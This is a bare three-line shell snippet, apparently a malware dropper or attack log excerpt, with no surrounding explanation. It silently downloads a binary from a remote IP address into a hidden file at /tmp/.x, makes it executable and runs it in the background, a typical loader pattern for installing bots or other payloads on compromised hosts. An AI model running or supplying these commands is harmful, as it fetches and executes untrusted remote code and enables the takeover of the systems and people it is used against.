curl -s -o /tmp/.x http://198.51.100.61/bin/x86
chmod 755 /tmp/.x
/tmp/.x &
